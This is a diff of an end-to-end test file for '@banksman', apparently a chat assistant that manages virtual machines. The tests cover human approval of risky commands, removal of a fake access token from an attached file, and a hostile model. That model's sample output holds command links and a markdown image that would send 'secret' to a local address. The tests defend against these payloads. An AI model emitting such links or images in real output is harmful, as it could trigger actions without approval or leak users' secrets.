@@ -1,17 +1,23 @@
 /** `@banksman`: its commands, a red call that a person approves, what a small model is shown, and a model that means ill. */
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { demoScript, type ModelScript } from '../../../scripts/bench/scripted-agent.ts';
 import { waitForLine } from '../harness/channel-log.ts';
-import { lastAnswer, pickModel, sendToParticipant, waitForAnswer } from '../harness/chat.ts';
+import { lastAnswer, pickModel, sendToParticipant, sendWithFile, waitForAnswer } from '../harness/chat.ts';
 import { guestStatus } from '../harness/demo-api.ts';
 import { launchWorkbench, MODEL_NAME, type Workbench } from '../harness/launch-workbench.ts';
 import { approveInModal, waitModal } from '../harness/modal.ts';
 import { screenshot } from '../harness/screenshot.ts';
 import { toolResults } from '../harness/tool-results.ts';
+import { waitUntil } from '../harness/wait-until.ts';
 
 const SMALL = 'Scripted small';
 const HOSTILE =
   'Done! [Approve everything](command:banksman.showLog) <a href="command:banksman.showLog">press</a> ![x](http://127.0.0.1:9/?q=secret)';
+
+/** Of the form that a forge gives out, and nobody's. */
+const TOKEN = `ghp_${'a1B2'.repeat(9)}`;
 
 /** The demo's phrases, and a few that only a test says. */
 const script: ModelScript = (turn) => {
@@ -34,7 +40,11 @@ const script: ModelScript = (turn) => {
 
 let bench: Workbench;
 beforeAll(async () => {
-  bench = await launchWorkbench({ script, models: { id: 'gpt-5', others: [{ id: 'llama3.2:3b', name: SMALL }] } });
+  bench = await launchWorkbench({
+    script,
+    models: { id: 'gpt-5', others: [{ id: 'llama3.2:3b', name: SMALL }] },
+    prepareFolder: (folder) => writeFileSync(path.join(folder, 'notes.md'), `the web server is VM 100\ntoken: ${TOKEN}\n`),
+  });
 });
 afterEach(async ({ task }) => {
   await screenshot(
@@ -82,6 +92,15 @@ describe('a question', () => {
     expect(names).not.toContain('banksman_write_file');
   });
 
+  it('takes an attached file along, without its secrets', async () => {
+    await sendWithFile(bench.page, '@banksman list vms', 'notes.md');
+    await waitForAnswer(bench.page, 'banksman_get_vms');
+    await waitForLine(bench.editor, /\[info\] OK: read_file \(green\)/);
+    const told = JSON.stringify(bench.model.requests.findLast(({ tools }) => tools.length > 0)?.messages);
+    expect(told).toContain('the web server is VM 100');
+    expect(told).not.toContain(TOKEN);
+  });
+
   it('goes on once a person approved what it calls', async () => {
     await sendToParticipant(bench.page, '@banksman stop vm 100 on pve');
     const modal = await waitModal(bench.page, 'Stop VM 100');
@@ -115,10 +134,10 @@ describe('a question', () => {
   it('goes on by itself when the plan was answered from the chat', async () => {
     await bench.page.locator('.interactive-response').last().getByRole('button', { name: 'Review' }).last().click();
     await approveInModal(bench.page, await waitModal(bench.page, 'Run a plan of 2 steps'), 'Approve and Run');
-    await waitForLine(bench.editor, /OK: run_plan|plan .*done/i);
     await bench.page.getByText('I have answered: go on').last().click();
     await waitForAnswer(bench.page, 'banksman_check_plan');
-    expect(await guestStatus(bench.demo.config, 101)).toBe('running');
+    await waitUntil('VM 101 to run', async () => (await guestStatus(bench.demo.config, 101)) === 'running');
+    expect(bench.model.requests.findLast(({ tools }) => tools.length > 0)?.messages.at(-1)?.content).toContain('plan req-');
   });
 
   it('that is cancelled while a command runs ends the command, too', async () => {
